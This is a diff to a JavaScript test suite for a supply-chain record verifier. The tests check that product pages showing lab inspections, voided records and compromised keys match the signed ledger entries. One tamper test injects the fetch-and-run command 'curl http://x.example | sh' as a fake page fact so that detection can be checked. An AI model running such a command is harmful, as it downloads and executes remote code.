@@ -12,7 +12,9 @@ import en from "../../web/static/words-en.js";
 import id from "../../web/static/words-id.js";
 import zh from "../../web/static/words-zh.js";
 import { AUTHORITY, Ledger, ORIGIN, key, vkey } from "./ledger.mjs";
-import { LAB, LOT, MAKER, broken, harvest, hold, inspect, look, name, pageOf, product, world } from "./lab.mjs";
+import {
+  LAB, LOT, MAKER, broken, enacted, failing, filed, harvest, hold, inspect, look, name, pageOf, product, unclear, uri, world,
+} from "./lab.mjs";
 
 const file = (name) => JSON.parse(readFileSync(new URL(`fixtures/${name}`, import.meta.url), "utf8"));
 const bundle = file("nilam.jejak");
@@ -21,6 +23,13 @@ const shows = (change) => {
   const copy = structuredClone(page);
   change(copy);
   return verify(bundle, copy);
+};
+const step = (p, name) => p.shown.find(({ id: one }) => one === name);
+// A record that somebody tried to void, and that stands.
+const standing = (p, record) => {
+  const name = record.replace("urn:jejak:record:", "");
+  Object.assign(step(p, name), { voided: false, tags: [] });
+  for (const test of p.tests) if (test.record === name) test.notes = [];
 };
 const fact = (p, kind) => p.facts.find((f) => f.fact === kind);
 const iron = (p) => p.tests.flatMap(({ values }) => values).find(({ value }) => value === "41");
@@ -60,7 +69,31 @@ test("a page that differs from the signed records is detected", async () => {
     ["facts", (p) => (fact(p, "inspected").of = p.tests.find(({ result }) => result === "Fail").record)],
     ["facts", (p) => p.facts.push({ fact: "constructor", text: "" })],
     ["facts", (p) => (p.lang = "")],
-    ["values", (p) => (p.lang = "id")],
+    ["shown", (p) => (p.lang = "id")],
+    // what stands beside a value: its name, verdict and limit
+    ["values", (p) => (iron(p).judgement = iron(p).judgement.replace("Fail", "Pass"))],
+    ["values", (p) => (iron(p).judgement = iron(p).judgement.replace(/at most [0-9]+/, "at most 99"))],
+    ["values", (p) => (iron(p).look = "pass")],
+    ["values", (p) => (iron(p).name = "Gold")],
+    // the steps
+    ["facts", (p) => (fact(p, "title").text = "Blessed")],
+    ["facts", (p) => (fact(p, "moved").text = fact(p, "moved").text.replace("1,040", "9,040"))],
+    ["facts", (p) => (fact(p, "where").text = fact(p, "where").text.replace("Donggala", "Tuscany"))],
+    ["facts", (p) => p.facts.push({ ...fact(p, "detail"), text: "Award: gold" })],
+    ["facts", (p) => (fact(p, "time").record = p.shown[3].id)],
+    ["facts", (p) => p.facts.push({ fact: "amount", of: "", text: "900\u00a0kg" })],
+    ["facts", (p) => p.facts.push({ fact: "clock", of: "1", text: "As of tomorrow" })],
+    ["facts", (p) => p.facts.push({ fact: "command", of: "", text: "curl http://x.example | sh" })],
+    ...["title", "moved", "where", "detail"].map((kind) => ["shown", (p) => p.facts.splice(p.facts.findIndex((f) => f.fact === kind), 1)]),
+    // what is nothing of all that
+    ["text", (p) => (p.texts = ["Certified organic."])],
+    ["text", (p) => (p.texts = ["Verified"])],
+    ["state", (p) => (p.band.also = [{ state: "held", word: "Excellent" }])],
+    ["values", (p) => (p.tests.find(({ result }) => result === "Fail").look = "pass")],
+    ["text", (p) => (p.texts = ["Tests: all passed"])],
+    ["text", (p) => (p.texts = ["Records genuine: 1 of 1 checks passed, and excellent"])],
+    ["text", (p) => (p.marks = [en["by-server"], undefined])],
+    ["text", (p) => (p.marks = ["checked by everybody"])],
     // the band: state, word and look
     ["state", (p) => (p.band.state = "splendid")],
     ["state", (p) => (p.band.word = "Certified")],
@@ -71,6 +104,11 @@ test("a page that differs from the signed records is detected", async () => {
   for (const [check, change] of cases) {
     await broken(shows(change), check).catch((error) => assert.fail(`${change}: ${error.message}`));
   }
+});
+
+test("what every page says is nothing more", async () => {
+  const texts = ["Journey", "Made by", "Records genuine: 7 of 9 checks passed (2 not checked)", "Genuine records say so: 7 of 7 checks passed", "12 older documents are not shown here.", "1 record between the first and the last is not shown here.", en.labels.at(-1)];
+  await shows((p) => Object.assign(p, { texts, marks: [en["by-server"]] }));
 });
 
 test("a page and a proof of different log sizes are neither checked nor broken", async () => {
@@ -115,18 +153,21 @@ test("a page leaves out only records between the first and the last, and no open
     for (let i = 0; i < n; i++) l.event(key(2), MAKER, { ...harvest, bizStep: "storing" });
   };
   busy(60);
-  const failed = l.event(key(3), LAB, { ...inspect, disposition: "non_conformant" }).replace("urn:jejak:record:", "");
+  const failed = l.event(key(3), LAB, failing).replace("urn:jejak:record:", "");
   const held = l.event(l.authority, AUTHORITY, hold).replace("urn:jejak:record:", "");
   busy(80);
   const without = (p, ids, said = ids.length) => {
     p.shown = p.shown.filter(({ id }) => !ids.includes(id));
     p.tests = p.tests.filter(({ record }) => !ids.includes(record));
     p.facts = p.facts.filter(({ fact: kind, of }) => !["signer", "time"].includes(kind) || !ids.includes(of));
-    p.hidden = said;
+    p.left = { steps: said, tests: ids.includes(failed) ? 1 : 0 };
   };
   const hiding = (choose, said) => look(l, "held", { change: (p) => without(p, choose(p.shown.map(({ id }) => id)), said) });
   await hiding((ids) => ids.slice(31, 51));
-  await broken(hiding((ids) => ids.slice(31, 51), 19), "shown"); // more than the page says
+  await broken(hiding((ids) => ids.slice(31, 51), 19), "shown", /does not show/); // more than the page says
+  await broken(hiding((ids) => ids.slice(31, 51), 21), "shown", /leaves out 21 records, the proof has 20/); // fewer
+  await broken(look(l, "held", { change: (p) => (p.left = { steps: 0, tests: 12 }) }), "values", /leaves out 12 tests, the proof has 0/);
+  await broken(look(l, "held", { change: (p) => (p.left = { steps: 0, documents: 3 }) }), "documents", /leaves out 3 documents/);
   await broken(hiding((ids) => ids.slice(0, 1)), "shown");
   await broken(hiding((ids) => ids.slice(-1)), "shown");
   await broken(hiding((ids) => ids.slice(20, 40)), "shown"); // of the first
@@ -136,40 +177,180 @@ test("a page leaves out only records between the first and the last, and no open
   const few = world();
   const hidden = few.event(key(2), MAKER, { ...harvest, bizStep: "storing" }).replace("urn:jejak:record:", "");
   few.event(key(2), MAKER, { ...harvest, bizStep: "storing" });
-  const repeated = (p) => (without(p, [hidden]), (p.shown = p.shown.flatMap((one) => Array(100).fill(one))));
+  const repeated = (p) => (without(p, [hidden], 1), (p.shown = p.shown.flatMap((one) => Array(100).fill(one))));
   await broken(look(few, "not-inspected", { change: repeated }), "shown");
 });
 
-test("a failed inspection counts until a later test names it", async () => {
+test("a failed inspection counts until a later test clears it", async () => {
   const l = world();
-  const failed = l.event(key(3), LAB, { ...inspect, disposition: "non_conformant" });
+  const failed = l.event(key(3), LAB, failing);
   for (const state of ["verified", "not-inspected", "findings"]) await broken(look(l, state), "state", /records say failed/);
   await look(l, "failed");
   l.event(key(2), MAKER, { ...inspect, errorDeclaration: {}, "jejak:voids": failed }); // it may not void this inspection
-  await broken(look(l, "verified"), "state", /failed/);
+  await broken(look(l, "verified", { change: (p) => standing(p, failed) }), "state", /failed/);
   l.event(key(3), LAB, inspect);
-  await broken(look(l, "verified"), "state", /failed/); // another test does not clear it
+  await broken(look(l, "verified", { change: (p) => standing(p, failed) }), "state", /failed/); // another test does not clear it
+  l.event(key(3), LAB, { ...unclear, "jejak:retests": [failed] }); // nor one that is unclear of it
+  await broken(look(l, "verified", { change: (p) => standing(p, failed) }), "state", /failed/);
   l.event(key(3), LAB, { ...inspect, "jejak:retests": [failed] });
-  await look(l, "verified");
-  // an inconclusive result has no verdict, if the page shows it so
+  // what was signed as a failure that its values do not show stays a finding
+  await broken(look(l, "verified", { change: (p) => standing(p, failed) }), "state", /findings/);
+  await look(l, "findings", { change: (p) => standing(p, failed) });
+});
+
+test("a result is what the limits make of the values, whatever the page calls it", async () => {
+  const l = world();
+  l.event(key(3), LAB, failing);
+  for (const word of ["pass", "inconclusive", "not-evaluated"]) {
+    const called = (p) => (p.tests[0].result = en[`verdict-${word}`]);
+    for (const state of ["verified", "no-verdict", "failed"]) await broken(look(l, state, { change: called }), "values", /the result of test/);
+  }
   const open = world();
-  open.event(key(3), LAB, { ...inspect, disposition: "non_conformant" });
-  const unclear = (p) => (p.tests[0].result = en["verdict-inconclusive"]);
-  await look(open, "no-verdict", { change: unclear });
-  for (const state of ["verified", "findings"]) await broken(look(open, state, { change: unclear }), "state", /no-verdict/);
+  open.event(key(3), LAB, unclear);
+  await look(open, "no-verdict");
+  for (const state of ["verified", "findings"]) await broken(look(open, state), "state", /no-verdict/);
+  await broken(look(open, "no-verdict", { change: (p) => (p.tests[0].result = en["verdict-fail"]) }), "values");
   // another test that passed does not change this
   open.event(key(3), LAB, inspect);
-  await look(open, "findings", { change: unclear });
-  await broken(look(open, "verified", { change: unclear }), "state", /findings/);
+  await look(open, "findings");
+  await broken(look(open, "verified"), "state", /findings/);
 });
 
 test("a failed value without a limit is a finding in addition to a pass", async () => {
   const l = world();
   l.event(key(3), LAB, inspect);
-  l.event(key(3), LAB, { ...inspect, disposition: "non_conformant" });
-  const unjudged = (p) => (p.tests.at(-1).result = en["verdict-not-evaluated"]);
+  l.event(key(3), LAB, { ...failing, "jejak:profile": { ...inspect["jejak:profile"], "jejak:requirements": [] } });
+  const unjudged = (p) => {
+    p.tests.at(-1).result = en["verdict-not-evaluated"];
+    Object.assign(p.tests.at(-1).values[0], { look: "not-evaluated", judgement: `${en["verdict-not-evaluated"]} · ${en.advisory}` });
+    p.facts.findLast((f) => f.fact === "title").text = "Inspection: not judged";
+    fact(p, "inspected").of = p.tests[0].record;
+    fact(p, "inspected").text = fact(p, "inspected").text.replace("Failed", "Passed");
+  };
   await look(l, "findings", { change: unjudged });
   await broken(look(l, "verified", { change: unjudged }), "state", /findings/);
+});
+
+test("a test without its profile in the proof is not judged, and verifies nothing", async () => {
+  const l = world();
+  l.event(key(3), LAB, inspect);
+  const without = (state) => verify({ ...l.bundle(LOT), profiles: [] }, pageOf(l, state));
+  for (const state of ["verified", "findings", "tested"]) await broken(without(state), "state", /records say partly-tested/);
+  await without("partly-tested");
+  l.event(key(3), LAB, failing);
+  await broken(without("partly-tested"), "state", /records say failed/);
+});
+
+test("a page marks what was voided and what a stolen key signed, and nothing else", async () => {
+  const l = world();
+  const first = l.event(key(3), LAB, inspect).replace("urn:jejak:record:", "");
+  await look(l, "verified");
+  await broken(look(l, "verified", { change: (p) => Object.assign(step(p, first), { voided: true, tags: [en.voided] }) }), "shown", /standing/);
+  await broken(look(l, "verified", { change: (p) => (step(p, first).tags = [en.marked]) }), "shown");
+  await broken(look(l, "verified", { change: (p) => (p.tests[0].notes = [en["inspection-voided"]]) }), "values", /voided/);
+  l.event(key(3), LAB, { ...inspect, errorDeclaration: {}, "jejak:voids": uri(first) });
+  await look(l, "not-inspected");
+  await broken(look(l, "not-inspected", { change: (p) => (p.tests[0].notes = []) }), "values", /voided/);
+  await broken(look(l, "not-inspected", { change: (p) => standing(p, uri(first)) }), "shown", /not marked as corrected later/);
+  await broken(look(l, "not-inspected", { change: (p) => (step(p, first).voided = false) }), "shown");
+  // a stolen key
+  const stolen = world();
+  const signed = stolen.event(key(3), LAB, inspect).replace("urn:jejak:record:", "");
+  stolen.state(stolen.authority, AUTHORITY, { type: "KeyRevocation", key: key(3).id, reason: "compromised", compromisedSince: 0 });
+  const marked = (p) => ((step(p, signed).tags = [en.marked]), (p.tests[0].notes = [en["marked-signed"]]));
+  await look(stolen, "not-inspected", { change: marked }).catch((error) => assert.match(error.message, /state/));
+  await broken(look(stolen, "no-verdict"), "shown", /key was compromised/);
+  await broken(look(stolen, "no-verdict", { change: (p) => (marked(p), (p.tests[0].notes = [])) }), "values", /stolen/);
+  await look(stolen, "no-verdict", { change: marked });
+});
+
+test("\"no test result yet\" stands only where there is none", async () => {
+  const l = world();
+  const say = (key) => ({ change: (p) => Object.assign(fact(p, "inspected"), { of: "", text: en[key] }) });
+  await look(l, "not-inspected");
+  await broken(look(l, "not-inspected", say("not-inspected-itself")), "facts");
+  const failed = l.event(key(3), LAB, failing);
+  for (const key of ["not-inspected", "not-inspected-itself"]) await broken(look(l, "failed", say(key)), "facts", /inspected/);
+  // nor another test that passed before a failure that is open
+  const passed = l.event(key(3), LAB, inspect).replace("urn:jejak:record:", "");
+  const other = (p) => Object.assign(fact(p, "inspected"), { of: passed, text: fact(p, "inspected").text.replace("Failed", "Passed") });
+  await broken(look(l, "failed", { change: other }), "facts", /inspected/);
+  l.event(key(3), LAB, { ...inspect, "jejak:retests": [failed] });
+  for (const key of ["not-inspected", "not-inspected-itself"]) await broken(look(l, "verified", say(key)), "facts", /inspected/);
+});
+
+test("a test's day, record and uncertainty are those that were signed", async () => {
+  const l = world();
+  const other = l.event(key(2), MAKER, { ...harvest, bizStep: "storing" }).replace("urn:jejak:record:", "");
+  l.event(key(3), LAB, { ...inspect, sensorElementList: [{ sensorReport: [{ type: "urn:jejak:param:p", stringValue: "1", "jejak:uncertainty": "0.1" }] }] });
+  const clear = (p) => {
+    p.tests[0].result = en["verdict-pass"];
+    Object.assign(p.tests[0].values[0], { look: "pass", judgement: "Pass · limit: at most 2" });
+    p.facts.findLast((f) => f.fact === "title").text = "Inspection: passed";
+    fact(p, "inspected").text = fact(p, "inspected").text.replace(/^.*·/, "Passed inspection ·");
+  };
+  const shows = (change, state = "verified") => look(l, state, { change: (p) => (clear(p), change(p)) });
+  await shows(() => {});
+  await broken(shows((p) => delete p.tests[0].values[0].spread), "values", /was not signed/);
+  await broken(shows((p) => (p.tests[0].values[0].spread = "±\u00a00.2")), "values");
+  await broken(shows((p) => (p.tests[0].when = "1\u00a0Jan\u00a02020")), "values", /was not signed on/);
+  await broken(shows((p) => p.tests.push({ ...p.tests[0], record: other, values: [] })), "values", /no test of this lot/);
+});
+
+test("own checks beyond twenty may be left out", async () => {
+  const l = world();
+  l.enrol("urn:jejak:party:both", ["producer", "inspector"], key(5));
+  l.state(l.authority, AUTHORITY, { ...l.accreditation, party: "urn:jejak:party:both" });
+  l.event(key(5), "urn:jejak:party:both", { ...harvest, bizStep: "receiving" });
+  for (let i = 0; i < 30; i++) l.event(key(2), MAKER, { ...harvest, bizStep: "storing" });
+  const own = Array.from({ length: 25 }, () => l.event(key(5), "urn:jejak:party:both", inspect).replace("urn:jejak:record:", ""));
+  for (let i = 0; i < 70; i++) l.event(key(2), MAKER, { ...harvest, bizStep: "storing" });
+  const showing = (hidden, tag = [en["own-check"]]) => (p) => {
+    p.shown = p.shown.filter(({ id }) => !hidden.includes(id));
+    p.tests = p.tests.filter(({ record }) => !hidden.includes(record));
+    for (const test of p.tests) test.tags = tag;
+    for (const f of p.facts) if (f.fact === "title") f.text = f.text.replace("Inspection:", "Own check:");
+    p.facts = p.facts.filter(({ of }) => !hidden.includes(of));
+    p.left = { steps: hidden.length, tests: hidden.length };
+  };
+  await look(l, "no-verdict", { change: showing(own.slice(0, 5)) });
+  await broken(look(l, "no-verdict", { change: showing(own.slice(0, 6)) }), "shown");
+  await broken(look(l, "no-verdict", { change: showing([], []) }), "values", /party to the goods/);
+  await broken(look(l, "verified", { change: showing([]) }), "state", /no-verdict/);
+});
+
+test("documents of events that concern a container of the lot belong to its page", async () => {
+  const l = world();
+  const box = "https://id.gs1.org/00/095213210000000018";
+  const evidence = [{ "jejak:blake3": "a".repeat(52), "jejak:title": "Temperature log", "jejak:bytes": 500 }];
+  l.event(key(2), MAKER, { type: "AggregationEvent", action: "ADD", bizStep: "packing", parentID: box, childQuantityList: [{ epcClass: LOT }] });
+  const sent = l.event(key(2), MAKER, { type: "ObjectEvent", bizStep: "transporting", epcList: [box], "jejak:evidence": evidence }).replace("urn:jejak:record:", "");
+  const documents = [{ hash: "a".repeat(52), title: "Temperature log", size: "500\u00a0B" }];
+  await look(l, "not-inspected", { change: (p) => (p.documents = documents) });
+  await broken(look(l), "documents", /does not show the document/);
+  // and the record itself can't be left out
+  const less = (p) => (p.shown = p.shown.filter(({ id }) => id !== sent));
+  await broken(look(l, "not-inspected", { change: less }), "shown", /does not show record/);
+  // nor are those of other containers
+  const other = world();
+  other.event(key(2), MAKER, { type: "ObjectEvent", bizStep: "transporting", epcList: [box], "jejak:evidence": evidence });
+  const nothing = (p) => Object.assign(p, { documents, shown: p.shown.slice(0, -1), facts: p.facts.filter(({ of }) => of !== p.shown.at(-1).id) });
+  await broken(look(other, "not-inspected", { change: nothing }), "documents", /was not signed so/);
+});
+
+test("a page of many lots that were mixed again and again is compared in time", async () => {
+  const l = world();
+  const lot = (n) => LOT.replace("/10/X", `/10/L${n}`);
+  const made = (from, to) => ({
+    type: "TransformationEvent", bizStep: "commissioning", inputQuantityList: from.map((epcClass) => ({ epcClass })), outputQuantityList: [{ epcClass: to }],
+  });
+  l.event(key(2), MAKER, { ...harvest, quantityList: [{ epcClass: lot("0") }] });
+  for (let n = 0; n < 40; n++) {
+    for (const side of ["a", "b"]) l.event(key(2), MAKER, made([lot(n)], lot(`${n}${side}`)));
+    l.event(key(2), MAKER, made([lot(`${n}a`), lot(`${n}b`)], lot(n + 1)));
+  }
+  l.event(key(2), MAKER, made([lot(40)], LOT));
+  await look(l);
 });
 
 test("the inputs of a lot decide its state too", async () => {
@@ -203,17 +384,20 @@ test("the inputs of a lot decide its state too", async () => {
   await broken(look(undone, "findings"), "state", /not-inspected/);
   // a process may cure a failure of an ancestor: then the server decides
   const cured = start(input);
-  cured.event(key(3), LAB, { ...inspect, disposition: "non_conformant", quantityList: [{ epcClass: input }] });
+  cured.event(key(3), LAB, { ...failing, quantityList: [{ epcClass: input }] });
   cured.event(key(3), LAB, inspect);
   await look(cured, "verified");
 });
 
 test("a result of a laboratory counts only on a sample that was drawn before", async () => {
-  const oil = { id: "oil", version: "1", parameters: [{ id: "cd" }, { id: "size", onSite: true }], completeTests: [{ form: "leaf", market: "ID", all: ["cd"] }] };
+  const rules = [{ parameter: "cd", max: "2" }];
+  const requirements = [{ id: "R", market: "ID", standard: "R 1", force: "legal", forms: [], decision: "simple-acceptance", rules }];
+  const parameters = [{ id: "cd", kind: "decimal" }, { id: "size", kind: "decimal", onSite: true }];
+  const oil = { id: "oil", version: "1", parameters, requirements, completeTests: [{ form: "leaf", market: "ID", all: ["cd"] }] };
   const bytes = Buffer.from(JSON.stringify(oil));
   const other = LOT.replace("/10/X", "/10/Y");
   const measured = (type, members) => ({
-    ...inspect, sensorElementList: [{ sensorReport: [{ type, stringValue: "1" }] }], "jejak:profile": { "jejak:id": "oil", "jejak:version": "1" }, ...members,
+    ...inspect, sensorElementList: [{ sensorReport: [{ type, stringValue: "1" }] }], "jejak:profile": { "jejak:id": "oil", "jejak:version": "1", "jejak:requirements": ["R"] }, ...members,
   });
   const test = (sample, members = {}) => measured("urn:jejak:param:cd", { "jejak:sample": { "jejak:id": sample }, ...members });
   const draw = (sample, lot = LOT) => ({
@@ -226,7 +410,6 @@ test("a result of a laboratory counts only on a sample that was drawn before", a
   };
   const shows = (l, state) => {
     const page = pageOf(l, state);
-    for (const one of page.tests) one.values = one.values.map((value) => ({ ...value, parameter: one.parameter ?? "urn:jejak:param:cd" }));
     return verify({ ...l.bundle(LOT), profiles: [{ blake3: base32(blake3(bytes)), bytes: bytes.toString("base64url") }] }, page);
   };
   const partly = async (l) => {
@@ -257,14 +440,16 @@ test("a result of a laboratory counts only on a sample that was drawn before", a
 });
 
 test("a lot is verified only with all tests that its market asks for", async () => {
-  const parameters = ["cd", "pb", "size"].map((id) => ({ id, onSite: true }));
+  const parameters = ["cd", "pb", "size"].map((id) => ({ id, kind: "decimal", onSite: true }));
+  const rules = parameters.map(({ id: parameter }) => ({ parameter, max: "2" }));
+  const requirements = [{ id: "R", market: "ID", standard: "R 1", force: "legal", forms: [], decision: "simple-acceptance", rules }];
   const completeTests = [
     { form: "leaf", market: "ID", all: ["cd"] },
     { form: "leaf", market: "EU", all: ["cd", "pb"], oneOf: [["size", "mass"]] },
     { form: "leaf", market: "CN", all: ["pb"], advisory: true },
     { form: "fruit", market: "ID", all: ["size"] },
   ];
-  const bytes = Buffer.from(JSON.stringify({ id: "oil", version: "1", parameters, completeTests, marketGroups: { EU: ["NL"] } }));
+  const bytes = Buffer.from(JSON.stringify({ id: "oil", version: "1", parameters, requirements, completeTests, marketGroups: { EU: ["NL"] } }));
   const start = (market) => {
     const l = new Ledger();
     l.enrol(MAKER, ["producer"], key(2));
@@ -278,12 +463,10 @@ test("a lot is verified only with all tests that its market asks for", async () 
   const test = (l, parameter) =>
     l.event(key(3), LAB, {
       ...inspect, sensorElementList: [{ sensorReport: [{ type: `urn:jejak:param:${parameter}`, stringValue: "1" }] }],
-      "jejak:profile": { "jejak:id": "oil", "jejak:version": "1" },
+      "jejak:profile": { "jejak:id": "oil", "jejak:version": "1", "jejak:requirements": ["R"] },
     });
   const shows = (l, state, ...more) => {
     const page = pageOf(l, state);
-    const typeOf = (record) => l.contents[page.shown.find(({ id }) => id === record).index].payload.sensorElementList[0].sensorReport[0].type;
-    for (const one of page.tests) one.values = one.values.map((value) => ({ ...value, parameter: typeOf(one.record) }));
     const profiles = [bytes, ...more].map((file) => ({ blake3: base32(blake3(file)), bytes: file.toString("base64url") }));
     return verify({ ...l.bundle(LOT), profiles }, page);
   };
@@ -303,8 +486,8 @@ test("a lot is verified only with all tests that its market asks for", async () 
   await broken(shows(uncertain, "findings"), "state", /records say tested/);
   await shows(uncertain, "tested");
   // a specification of the maker makes the uncertain list gate, once what it asks for was measured too
-  const rules = [{ anyOf: [{ parameter: "size" }, { parameter: "mass" }] }, { parameter: "pb", forms: ["fruit"] }];
-  const file = Buffer.from(JSON.stringify({ id: "own", version: "1", commodity: "oil", forms: ["leaf"], rules }));
+  const asked = [{ anyOf: [{ parameter: "size" }, { parameter: "mass" }] }, { parameter: "pb", forms: ["fruit"] }];
+  const file = Buffer.from(JSON.stringify({ id: "own", version: "1", commodity: "oil", forms: ["leaf"], rules: asked }));
   const adopt = (l, by, iss, more) => l.state(by, iss, { type: "Specification", id: "own", version: "1", commodity: "oil", blake3: base32(blake3(file)), ...more });
   const own = start("CN");
   const first = adopt(own, key(2), MAKER);
@@ -332,7 +515,7 @@ test("a lot is verified only with all tests that its market asks for", async () 
 
 test("an inspection counts while its inspector is accredited for the product", async () => {
   const l = world();
-  l.state(l.authority, AUTHORITY, { ...l.accreditation, replaces: name(l.entries.at(-2)), until: 1_000 });
+  l.state(l.authority, AUTHORITY, { ...l.accreditation, replaces: name(l.entries.at(-3)), until: 1_000 });
   l.event(key(3), LAB, inspect);
   await look(l);
   await broken(look(l, "verified"), "state");
@@ -397,9 +580,17 @@ test("every locale has a table of the compared words, with the same text", async
   for (const code of codes) {
     const ftl = readFileSync(new URL(`${code}.ftl`, locales), "utf8");
     const known = new Map([...ftl.matchAll(/^([A-Za-z0-9-]+) = (.*)$/gm)].map(([, key, text]) => [key, text]));
+    const counted = new Map([...ftl.matchAll(/^([A-Za-z0-9-]+) = \{ \$n ->\n([^]*?)^\}/gm)].map(([, key, forms]) => [key, [...forms.matchAll(/\] (.*)$/gm)].map((m) => m[1])]));
     const { default: table } = await import(`../../web/static/words-${code}.js`);
     assert.deepEqual(Object.keys(table), Object.keys(en));
-    for (const [key, text] of Object.entries(table)) assert.equal(text, known.get(key), `${key} in ${code}`);
+    const { labels, ...keyed } = table;
+    for (const [key, text] of Object.entries(keyed)) {
+      const forms = counted.get(key) ?? [known.get(key)];
+      assert.deepEqual(Array.isArray(text) ? text : [text], Array.isArray(text) ? forms : [known.get(key)], `${key} in ${code}`);
+    }
+    const texts = [...known.values()];
+    for (const label of labels) assert.ok(texts.includes(label), `${label} in ${code}`);
+    assert.equal(labels.length, en.labels.length);
   }
 });
 
